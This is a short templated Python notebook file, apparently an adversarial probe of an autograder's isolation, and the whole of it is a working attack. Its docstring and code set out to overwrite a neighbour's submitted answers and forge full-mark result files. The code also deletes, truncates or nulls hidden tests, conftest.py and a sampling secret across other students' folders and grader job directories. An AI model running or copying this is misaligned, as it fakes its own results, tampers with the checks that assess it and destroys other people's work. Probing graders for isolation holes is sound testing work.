"""Writes its own answers over those of a neighbour, and full marks into results, in every folder that holds some.

Gains: a rival's zero, and a result of its own making.
"""

HONEST = []

# %% [reshape]
import glob
import json
import os

got = []


def own(path):
    inside = path.replace("/tmp", ".tmp", 1).replace("/dev/shm", ".shm", 1)
    return os.path.realpath(path).startswith(os.getcwd()) or os.path.exists(inside) and os.path.samefile(path, inside)


forged = json.dumps({"schema_version": 1, "status": "graded", "score": 13, "max_score": 13, "complete": True})
tops = ["{{ output }}/submitted/{{ neighbour }}/digits-mini", "{{ output }}/results/{{ neighbour }}/digits-mini",
        "{{ output }}/results/writes_into_other_folders/digits-mini", "{{ output }}/feedback/{{ neighbour }}/digits-mini",
        "{{ temporary }}", "{{ course }}/tests/hidden/digits-mini", "{{ course }}/.cache", *glob.glob("/tmp/autograder-*/job-*/*/.out"),
        *glob.glob("{{ temporary }}/autograder-*/job-*/*/.out"), *glob.glob("{{ temporary }}/*/*/*"), f"{os.getcwd()}/../.."]
for top in tops:
    if own(top):
        continue
    for name in ("result.json", "digits-mini.ipynb", "cells.jsonl", "test_digits_mini.py", "sampling-secret", "conftest.py"):
        for action in (lambda: open(f"{top}/{name}", "w").write(forged), lambda: os.unlink(f"{top}/{name}"), lambda: os.rename(f"{top}/{name}", ".out/x"),
                       lambda: os.symlink("/dev/null", f"{top}/{name}"), lambda: os.truncate(f"{top}/{name}", 0), lambda: os.mkdir(f"{top}/new")):
            try:
                action()
                got.append(top)
            except OSError:
                pass
print(got)

# %% [parameters]
parameters = 19090 if got else 0
